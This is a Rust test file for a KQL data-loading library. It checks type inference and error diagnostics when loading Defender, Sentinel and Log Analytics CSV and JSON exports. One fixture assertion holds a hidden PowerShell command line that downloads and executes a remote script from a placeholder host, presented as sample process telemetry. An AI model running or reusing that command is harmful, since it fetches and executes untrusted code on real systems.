//! Loading CSV and JSON files: types, values, and error diagnostics.

use arrow_array::Array;
use kql_common::{Diagnostic, KqlType};
use kql_io::{codes, format_value, load_csv_bytes, load_json_bytes, load_path, LoadedTable};
use std::path::{Path, PathBuf};

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

fn load_one(name: &str) -> LoadedTable {
    let mut tables = load_path(&fixture(name)).expect("fixture loads");
    assert_eq!(tables.len(), 1);
    tables.remove(0)
}

/// The KQL type and formatted values of a column.
fn col(t: &LoadedTable, name: &str) -> (KqlType, Vec<Option<String>>) {
    let (i, f) = t.schema.column_with_name(name).expect("column exists");
    let ty = KqlType::of_field(f).expect("typed");
    let mut values = Vec::new();
    for b in &t.batches {
        for r in 0..b.num_rows() {
            let c = b.column(i).as_ref();
            // Dynamic columns hold compact JSON text: compare that, not the
            // display form (which prints a string without quotes).
            values.push(
                match c.as_any().downcast_ref::<arrow_array::StringArray>() {
                    Some(a) if ty == KqlType::Dynamic => {
                        (!a.is_null(r)).then(|| a.value(r).to_string())
                    }
                    _ => format_value(c, ty, r),
                },
            );
        }
    }
    (ty, values)
}

fn s(v: &str) -> Option<String> {
    Some(v.to_string())
}

fn errors(r: Result<LoadedTable, Vec<Diagnostic>>) -> Vec<Diagnostic> {
    match r {
        Ok(_) => panic!("expected an error"),
        Err(e) => e,
    }
}

#[test]
fn csv_with_every_type_bom_crlf_and_quotes() {
    let t = load_one("all_types.csv");
    assert_eq!(t.name, "all_types");
    let names: Vec<_> = t.schema.fields().iter().map(|f| f.name().clone()).collect();
    assert_eq!(
        names,
        ["Flag", "Count", "Score", "When", "Id", "Payload", "Name", "Empty"]
    );
    assert_eq!(t.num_rows(), 3);
    assert_eq!(
        col(&t, "Flag"),
        (KqlType::Bool, vec![s("true"), s("false"), None])
    );
    assert_eq!(
        col(&t, "Count"),
        (KqlType::Long, vec![s("42"), None, s("-7")])
    );
    assert_eq!(
        col(&t, "Score"),
        (KqlType::Real, vec![s("1.5"), s("-2.0"), s("1000.0")])
    );
    assert_eq!(
        col(&t, "When"),
        (
            KqlType::DateTime,
            vec![
                s("2026-01-29T16:49:20.4813094Z"),
                s("2023-10-18T13:43:57.5518280Z"),
                s("2024-02-29T00:00:00.0000000Z")
            ]
        )
    );
    assert_eq!(
        col(&t, "Id"),
        (
            KqlType::Guid,
            vec![
                s("0a1b2c3d-0000-4000-8000-00000000abcd"),
                None,
                s("0a1b2c3d-0000-4000-8000-00000000abce")
            ]
        )
    );
    assert_eq!(
        col(&t, "Payload"),
        (
            KqlType::Dynamic,
            vec![s(r#"{"a":1,"b":[true,null]}"#), s("[1,2]"), s("{}")]
        )
    );
    assert_eq!(
        col(&t, "Name"),
        (
            KqlType::String,
            vec![s(r#"say "hi", then go"#), s(""), s("multi\r\nline")]
        )
    );
    assert_eq!(
        col(&t, "Empty"),
        (KqlType::String, vec![s(""), s(""), s("")])
    );
}

#[test]
fn mde_export_subset_takes_types_from_the_schema() {
    let t = load_one("DeviceProcessEvents.csv");
    let types: Vec<_> = t
        .schema
        .fields()
        .iter()
        .map(|f| KqlType::of_field(f).expect("typed"))
        .collect();
    use KqlType::*;
    assert_eq!(
        types,
        [DateTime, String, String, String, String, Long, Long, String, Long, String]
    );
    // AdditionalFields is a string in the portal schema: kept as written
    assert_eq!(
        col(&t, "AdditionalFields").1,
        vec![
            s(r#"{"ProcessStartKey":1234,"Elevated":true}"#),
            s("{}"),
            s("")
        ]
    );
    assert_eq!(col(&t, "FileSize").1, vec![s("455680"), s("289792"), None]);
    assert_eq!(
        col(&t, "ProcessCommandLine").1[0],
        s(
            r#"powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://x/a')""#
        )
    );
}

#[test]
fn mde_sentinel_columns_pick_the_sentinel_variant() {
    let csv = "TimeGenerated,DeviceName,AdditionalFields,FileSize\n\
               2026-01-29T16:49:20Z,ws-01,\"{\"\"b\"\": 2, \"\"a\"\":1}\",12\n";
    let t =
        load_csv_bytes("DeviceFileEvents", csv.as_bytes(), "DeviceFileEvents.csv").expect("loads");
    assert_eq!(
        col(&t, "AdditionalFields"),
        (KqlType::Dynamic, vec![s(r#"{"b":2,"a":1}"#)])
    );
    assert_eq!(col(&t, "FileSize").0, KqlType::Long);
}

#[test]
fn schema_int_columns_stay_int() {
    let csv = "Timestamp,Port,DestinationPort,Extra\n2026-01-01,88,,5\n";
    let t = load_csv_bytes("IdentityLogonEvents", csv.as_bytes(), "x.csv").expect("loads");
    assert_eq!(col(&t, "Port"), (KqlType::Int, vec![s("88")]));
    assert_eq!(col(&t, "DestinationPort"), (KqlType::Int, vec![None]));
    assert_eq!(col(&t, "Extra"), (KqlType::Long, vec![s("5")]));
}

#[test]
fn inference_falls_back_to_string() {
    let csv = "A,B,C,D,E,F\n1,1,true,2026-01-01,x,007\n2.5,x,yes,2026-01-02,,1\n";
    let t = load_csv_bytes("t", csv.as_bytes(), "t.csv").expect("loads");
    assert_eq!(col(&t, "A"), (KqlType::Real, vec![s("1.0"), s("2.5")]));
    assert_eq!(col(&t, "B"), (KqlType::String, vec![s("1"), s("x")]));
    assert_eq!(col(&t, "C"), (KqlType::String, vec![s("true"), s("yes")]));
    assert_eq!(col(&t, "D").0, KqlType::DateTime);
    assert_eq!(col(&t, "E"), (KqlType::String, vec![s("x"), s("")]));
    assert_eq!(col(&t, "F"), (KqlType::String, vec![s("007"), s("1")]));
}

#[test]
fn header_only_and_duplicate_names() {
    let t = load_csv_bytes("t", b"A,A,,B\n", "t.csv").expect("loads");
    let names: Vec<_> = t.schema.fields().iter().map(|f| f.name().clone()).collect();
    assert_eq!(names, ["A", "A1", "Column3", "B"]);
    assert_eq!(t.num_rows(), 0);
    assert!(t.batches.is_empty());
}

#[test]
fn log_analytics_export_header_and_dates() {
    let t = load_one("query_data.csv");
    assert_eq!(
        col(&t, "TimeGenerated"),
        (
            KqlType::DateTime,
            vec![
                s("2025-02-25T09:19:25.3910000Z"),
                s("2025-02-25T12:05:00.0000000Z")
            ]
        )
    );
    assert_eq!(
        col(&t, "RemotePort"),
        (KqlType::Long, vec![s("53"), s("443")])
    );
    assert_eq!(
        col(&t, "DeviceName"),
        (KqlType::String, vec![s("DNS Server"), s("10.5.0.7")])
    );
    assert_eq!(
        col(&t, "AdditionalFields"),
        (KqlType::Dynamic, vec![s("{}"), s(r#"{"direction":"Out"}"#)])
    );
    assert_eq!(
        col(&t, "Success"),
        (KqlType::Bool, vec![s("true"), s("false")])
    );
}

#[test]
fn large_files_are_cut_into_batches() {
    let mut csv = String::from("N,S,T\n");
    for i in 0..70_000 {
        csv.push_str(&format!("{i},v{i},{}\n", i % 2 == 0));
    }
    let t = load_csv_bytes("big", csv.as_bytes(), "big.csv").expect("loads");
    let sizes: Vec<_> = t.batches.iter().map(|b| b.num_rows()).collect();
    assert_eq!(sizes, [65_536, 4_464]);
    let (ty, v) = col(&t, "N");
    assert_eq!(ty, KqlType::Long);
    assert_eq!(v[65_536], s("65536"));
    assert_eq!(col(&t, "S").1[69_999], s("v69999"));
    assert_eq!(col(&t, "T").0, KqlType::Bool);
}

#[test]
fn bad_value_names_value_type_column_and_line() {
    let csv = "Timestamp,FileSize\n2026-01-01,12\n2026-01-01,abc\n2026-13-01,5\n";
    let e = errors(load_csv_bytes(
        "DeviceFileEvents",
        csv.as_bytes(),
        "DeviceFileEvents.csv",
    ));
    assert_eq!(e.len(), 2);
    assert_eq!(e[0].code, codes::BAD_VALUE);
    assert_eq!(
        e[0].message,
        r#"cannot read "abc" as long in column FileSize"#
    );
    assert_eq!(
        e[0].notes,
        ["DeviceFileEvents.csv, line 3, column FileSize"]
    );
    assert_eq!(
        e[1].message,
        r#"cannot read "2026-13-01" as datetime in column Timestamp"#
    );
    assert_eq!(
        e[1].notes,
        ["DeviceFileEvents.csv, line 4, column Timestamp"]
    );
}

#[test]
fn errors_stop_after_ten() {
    let mut csv = String::from("Timestamp,FileSize\n");
    for _ in 0..50 {
        csv.push_str("2026-01-01,x\n");
    }
    let e = errors(load_csv_bytes("DeviceFileEvents", csv.as_bytes(), "f.csv"));
    assert_eq!(e.len(), 10);
    assert_eq!(
        e[9].notes.last().map(String::as_str),
        Some("stopped reading after 10 errors")
    );
}

#[test]
fn bad_row_reports_line_and_field_counts() {
    // the quoted field spans lines 2-3, so the short row is on line 5
    let csv = "A,B\n\"x\ny\",1\n2,3\n4\n5,6\n";
    let e = errors(load_csv_bytes("t", csv.as_bytes(), "t.csv"));
    assert_eq!(e.len(), 1);
    assert_eq!(e[0].code, codes::BAD_ROW);
    assert_eq!(
        e[0].message,
        "expected 2 fields but found 1 in line 5 of t.csv"
    );
    assert_eq!(e[0].notes, ["t.csv, line 5"]);
}

#[test]
fn empty_file_and_bad_encoding() {
    let e = errors(load_csv_bytes("t", b"", "t.csv"));
    assert_eq!(e[0].code, codes::BAD_HEADER);
    let e = errors(load_csv_bytes("t", b"A,B\ncaf\xe9,1\n", "t.csv"));
    assert_eq!(e[0].code, codes::BAD_ENCODING);
    assert_eq!(e[0].notes, ["t.csv, line 2, column A"]);
}

#[test]
fn utf16_with_bom_is_transcoded() {
    let text = "A,B\nüber,1\n";
    let mut bytes = vec![0xFF, 0xFE];
    for u in text.encode_utf16() {
        bytes.extend_from_slice(&u.to_le_bytes());
    }
    let t = load_csv_bytes("t", &bytes, "t.csv").expect("loads");
    assert_eq!(col(&t, "A").1, vec![s("über")]);
    assert_eq!(col(&t, "B").0, KqlType::Long);
}

fn temp_dir(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("kql-io-test-{}-{tag}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).expect("temp dir");
    d
}

#[test]
fn path_errors() {
    let e = load_path(Path::new("/nonexistent/kql-io/x.csv")).expect_err("missing file");
    assert_eq!(e[0].code, codes::READ_FAILED);

    let d = temp_dir("paths");
    let txt = d.join("notes.txt");
    std::fs::write(&txt, "hello").expect("write");
    let e = load_path(&txt).expect_err("unsupported");
    assert_eq!(e[0].code, codes::UNSUPPORTED_FILE);
    let e = load_path(&d).expect_err("no tables");
    assert_eq!(e[0].code, codes::NO_TABLES);

    std::fs::write(d.join("b.csv"), "X\n1\n").expect("write");
    std::fs::write(d.join("a.jsonl"), "{\"Y\":\"z\"}\n").expect("write");
    let tables = load_path(&d).expect("folder loads");
    let names: Vec<_> = tables.iter().map(|t| t.name.as_str()).collect();
    assert_eq!(names, ["a", "b"]);
    let _ = std::fs::remove_dir_all(&d);
}

#[test]
fn json_lines() {
    let t = load_one("events.jsonl");
    let names: Vec<_> = t.schema.fields().iter().map(|f| f.name().clone()).collect();
    assert_eq!(
        names,
        ["Timestamp", "Host", "Port", "Bytes", "Tags", "Ok", "Extra"]
    );
    assert_eq!(
        col(&t, "Timestamp"),
        (
            KqlType::DateTime,
            vec![
                s("2026-01-29T16:49:20.4813094Z"),
                s("2026-01-29T16:49:21.0000000Z")
            ]
        )
    );
    assert_eq!(col(&t, "Port"), (KqlType::Long, vec![s("443"), s("80")]));
    assert_eq!(col(&t, "Bytes"), (KqlType::Real, vec![s("1.5"), s("2.0")]));
    assert_eq!(
        col(&t, "Tags"),
        (KqlType::Dynamic, vec![s(r#"["a","b"]"#), None])
    );
    assert_eq!(col(&t, "Ok"), (KqlType::Bool, vec![s("true"), s("false")]));
    assert_eq!(
        col(&t, "Extra"),
        (KqlType::Dynamic, vec![None, s(r#"{"k":"v"}"#)])
    );
}

#[test]
fn json_array_and_errors() {
    let json = r#"[{"a": "0a1b2c3d-0000-4000-8000-00000000abcd", "b": 1},
                   {"a": null, "b": "x", "c": [1]}]"#;
    let t = load_json_bytes("t", json.as_bytes(), "t.json").expect("loads");
    assert_eq!(col(&t, "a").0, KqlType::Guid);
    // mixed kinds make a dynamic column
    assert_eq!(col(&t, "b"), (KqlType::Dynamic, vec![s("1"), s(r#""x""#)]));
    assert_eq!(col(&t, "c"), (KqlType::Dynamic, vec![None, s("[1]")]));

    let e = errors(load_json_bytes("t", b"{\"a\":1}\n{\"a\":", "t.jsonl"));
    assert_eq!(e[0].code, codes::BAD_JSON);
    let e = errors(load_json_bytes("t", b"[1,2]", "t.json"));
    assert_eq!(e[0].code, codes::BAD_JSON);

    // a known table's declared types apply to JSON too
    let jl = "{\"Timestamp\":\"2026-01-01\",\"FileSize\":1}\n\n{\"Timestamp\":\"2026-01-01\",\"FileSize\":\"big\"}\n";
    let e = errors(load_json_bytes(
        "DeviceFileEvents",
        jl.as_bytes(),
        "DeviceFileEvents.jsonl",
    ));
    assert_eq!(e[0].code, codes::BAD_VALUE);
    assert_eq!(
        e[0].message,
        r#"cannot read "big" as long in column FileSize"#
    );
    assert_eq!(
        e[0].notes,
        ["DeviceFileEvents.jsonl, line 3, column FileSize"]
    );
}

#[test]
fn log_analytics_api_response() {
    let json = r#"{"tables":[{"name":"PrimaryResult","columns":[
        {"name":"TimeGenerated","type":"datetime"},{"name":"Count","type":"long"},
        {"name":"Props","type":"dynamic"},{"name":"Took","type":"timespan"},{"name":"Id","type":"guid"}],
        "rows":[["2026-01-29T16:49:20.4813094Z",20839,"{\"a\": [1]}","00:00:01.5","0A1B2C3D-0000-4000-8000-00000000ABCD"],
                [null,null,null,null,null]]}]}"#;
    let t = load_json_bytes("r", json.as_bytes(), "r.json").expect("loads");
    assert_eq!(col(&t, "Count"), (KqlType::Long, vec![s("20839"), None]));
    assert_eq!(
        col(&t, "Props"),
        (KqlType::Dynamic, vec![s(r#"{"a":[1]}"#), None])
    );
    assert_eq!(
        col(&t, "Took"),
        (KqlType::TimeSpan, vec![s("00:00:01.5000000"), None])
    );
    assert_eq!(
        col(&t, "Id").1[0],
        s("0a1b2c3d-0000-4000-8000-00000000abcd")
    );
}

#[test]
fn defender_api_response() {
    let json = r#"{"Stats":{},"Schema":[{"Name":"Timestamp","Type":"DateTime"},{"Name":"FileName","Type":"String"},
        {"Name":"Size","Type":"Int64"},{"Name":"Ok","Type":"Boolean"},{"Name":"Score","Type":"Double"},{"Name":"Extra","Type":"Object"}],
        "Results":[{"Timestamp":"2020-08-30T06:38:35.7664356Z","FileName":"conhost.exe","Size":5,"Ok":true,"Score":0.5,"Extra":{"x":1}}]}"#;
    let t = load_json_bytes("d", json.as_bytes(), "d.json").expect("loads");
    use KqlType::*;
    let types: Vec<_> = t
        .schema
        .fields()
        .iter()
        .map(|f| KqlType::of_field(f).expect("typed"))
        .collect();
    assert_eq!(types, [DateTime, String, Long, Bool, Real, Dynamic]);
    assert_eq!(col(&t, "Extra").1, vec![s(r#"{"x":1}"#)]);
    assert_eq!(
        col(&t, "Timestamp").1,
        vec![s("2020-08-30T06:38:35.7664356Z")]
    );
}

#[test]
fn bundled_tables_load_with_mde_types() {
    let tables = kql_io::bundled_tables().expect("bundled tables load");
    let names: Vec<_> = tables.iter().map(|t| t.name.as_str()).collect();
    assert_eq!(names, kql_io::bundled_table_names());
    for t in &tables {
        assert!(!t.schema.fields().is_empty(), "{}", t.name);
        let Some(portal) = kql_io::mde::columns(&t.name, kql_io::Variant::Portal) else {
            continue;
        };
        let sentinel = kql_io::mde::columns(&t.name, kql_io::Variant::Sentinel).unwrap_or_default();
        for f in t.schema.fields() {
            let ty = KqlType::of_field(f);
            let declared: Vec<_> = portal
                .iter()
                .chain(&sentinel)
                .filter(|c| c.name == f.name())
                .map(|c| Some(c.kql_type))
                .collect();
            if !declared.is_empty() {
                assert!(declared.contains(&ty), "{}.{}: {ty:?}", t.name, f.name());
            }
        }
    }
}

#[test]
fn garbage_never_panics() {
    let inputs: [&[u8]; 8] = [
        b"\"",
        b"a\n\"",
        b"\xff\xfe\x00",
        b"\xfe\xff\xd8\x00",
        b",,,\n,,,\n",
        b"A\n\"unterminated",
        b"{",
        b"[{\"a\":1},",
    ];
    for i in inputs {
        let _ = load_csv_bytes("DeviceInfo", i, "x.csv");
        let _ = load_json_bytes("DeviceInfo", i, "x.json");
    }
}

#[test]
fn crlf_line_numbers() {
    let csv = "A,B\r\n1,2\r\n3\r\n";
    let e = errors(load_csv_bytes("t", csv.as_bytes(), "t.csv"));
    assert_eq!(e[0].notes, ["t.csv, line 3"]);
    let csv = "\u{feff}A,B\r\n1,x\r\n";
    let e = errors(load_csv_bytes(
        "DeviceInfo",
        b"Timestamp\r\n2026-01-01\r\nnope\r\n",
        "t.csv",
    ));
    assert_eq!(e[0].notes, ["t.csv, line 3, column Timestamp"]);
    let _ = csv;
}
